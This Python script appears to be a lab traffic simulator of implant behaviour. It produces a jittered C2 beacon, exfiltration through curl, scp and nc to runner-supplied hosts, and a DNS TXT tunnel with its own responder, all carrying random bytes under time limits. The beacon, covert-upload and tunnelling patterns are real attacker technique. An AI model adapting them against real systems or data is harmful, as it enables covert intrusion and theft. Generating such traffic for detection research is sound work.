"""What a compromised machine runs: beacon, exfiltration, a plain DNS tunnel.

Every loop here ends by a count and by a clock. Addresses are given by the
runner and are always hosts of the lab.

  implant.py beacon  HOW ADDR PORT PERIOD JITTER SECONDS SEED
  implant.py exfil   HOW ADDR PORT PIECES MEAN_BYTES MEAN_GAP SECONDS SEED [USER WORD]
  implant.py txt     RESOLVER DOMAIN QUERIES MEAN_GAP SECONDS SEED
  implant.py tunchat TUN_ADDR SECONDS SEED          real traffic inside an iodine tunnel
  implant.py txtserver ADDR
"""
import os
import random
import socket
import ssl
import struct
import subprocess
import sys
import time

AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
SSH = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR"]


def dial(how, addr, port):
    s = socket.create_connection((addr, port), timeout=5)
    if how == "https":
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
        s = ctx.wrap_socket(s)
    return s


def poll(how, addr, port, rng, path):
    """One call home. True where a task waits."""
    s = dial(how, addr, port)
    try:
        if how == "tcp":
            s.sendall(b"HELO" + os.urandom(rng.randrange(12, 60)))
            s.recv(4096)
            return False
        s.sendall(f"GET {path}{rng.getrandbits(64):x} HTTP/1.1\r\nHost: {addr}\r\n"
                  f"User-Agent: {AGENT}\r\nConnection: close\r\n\r\n".encode())
        head = b""
        while piece := s.recv(65536):
            head = head or piece
        return b"X-Task" in head
    finally:
        s.close()


def beacon(how, addr, port, period, jitter, seconds, seed):
    rng, end = random.Random(int(seed)), time.time() + float(seconds)
    period, jitter = float(period), float(jitter)
    while time.time() < end:
        try:
            if poll(how, addr, int(port), rng, "/poll?id="):
                time.sleep(rng.uniform(0.1, 0.6))
                poll(how, addr, int(port), rng, "/task?id=")
        except OSError:
            pass
        time.sleep(period * (1 + rng.uniform(-jitter, jitter)))


def push(how, addr, port, name, rng, user, word):
    """Send one file out with a stock tool."""
    limit = ["timeout", "25"]
    if how in ("http", "https"):
        verb = rng.choice([["-T", name], ["-X", "POST", "--data-binary", "@" + name]])
        slow = rng.choice([[], ["--limit-rate", "300k"], ["--limit-rate", "1m"]])
        cmd = ["curl", "-sk", "-o", "/dev/null", *slow, *verb, f"{how}://{addr}:{port}/r/{rng.getrandbits(40):x}"]
    elif how == "scp":
        cmd = ["sshpass", "-p", word, "scp", "-q", "-l", rng.choice(["3000", "20000"]), "-P", str(port), *SSH, name, f"{user}@{addr}:/dev/null"]
    else:
        cmd = ["nc", "-q", "0", "-w", "5", addr, str(port)]
    with open(name, "rb") as f:
        subprocess.run(limit + cmd, stdin=f, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def exfil(how, addr, port, pieces, mean, gap, seconds, seed, user="", word=""):
    rng, end = random.Random(int(seed)), time.time() + float(seconds)
    name = f"/tmp/.cache-{os.getpid()}"
    try:
        for _ in range(int(pieces)):
            if time.time() > end:
                break
            size = max(2000, min(4_000_000, int(rng.lognormvariate(0, 0.9) * float(mean))))
            with open(name, "wb") as f:
                f.write(os.urandom(size))
            push(how, addr, port, name, rng, user, word)
            time.sleep(min(10, rng.expovariate(1 / float(gap))))
    finally:
        if os.path.exists(name):
            os.unlink(name)


def question(name, qtype, rng):
    q = struct.pack(">HHHHHH", rng.getrandbits(16), 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">HH", qtype, 1)


def txt(resolver, domain, queries, gap, seconds, seed):
    """A tunnel of the plain sort: data out in the name, data back in TXT."""
    rng, end = random.Random(int(seed)), time.time() + float(seconds)
    for seq in range(int(queries)):
        if time.time() > end:
            break
        data = os.urandom(rng.randrange(20, 90)).hex()
        labels = [data[i:i + 60] for i in range(0, len(data), 60)]
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(3)
            try:
                s.sendto(question(".".join(labels + [f"{seq:x}", domain]), 16, rng), (resolver, 53))
                s.recv(4096)
            except OSError:
                pass
        time.sleep(min(5, rng.expovariate(1 / float(gap))))


def txtserver(addr):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((addr, 53))
    while True:
        q, peer = s.recvfrom(4096)
        end = q.index(b"\0", 12) + 5
        text = os.urandom(random.randrange(10, 110)).hex().encode()
        answer = b"\xc0\x0c" + struct.pack(">HHIH", 16, 1, 0, len(text) + 1) + bytes([len(text)]) + text
        s.sendto(q[:2] + b"\x85\x80" + q[4:6] + b"\0\1\0\0\0\0" + q[12:end] + answer, peer)


def tunchat(addr, seconds, seed):
    """Pings and small fetches through the tunnel; the tunnel makes the look-ups."""
    rng, end = random.Random(int(seed)), time.time() + float(seconds)
    quiet = dict(stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    while time.time() < end:
        if rng.random() < 0.5:
            cmd = ["ping", "-c", str(rng.randrange(2, 8)), "-i", "0.4", addr]
        else:
            cmd = ["curl", "-s", "-m", "8", "--max-filesize", str(rng.randrange(1500, 9000)), "-o", "/dev/null",
                   f"http://{addr}:8000/a/{rng.randrange(150)}.bin"]
        subprocess.run(["timeout", "8"] + cmd, **quiet)
        time.sleep(min(6, rng.expovariate(0.35)))


if __name__ == "__main__":
    {"beacon": beacon, "exfil": exfil, "txt": txt, "txtserver": txtserver, "tunchat": tunchat}[sys.argv[1]](*sys.argv[2:])
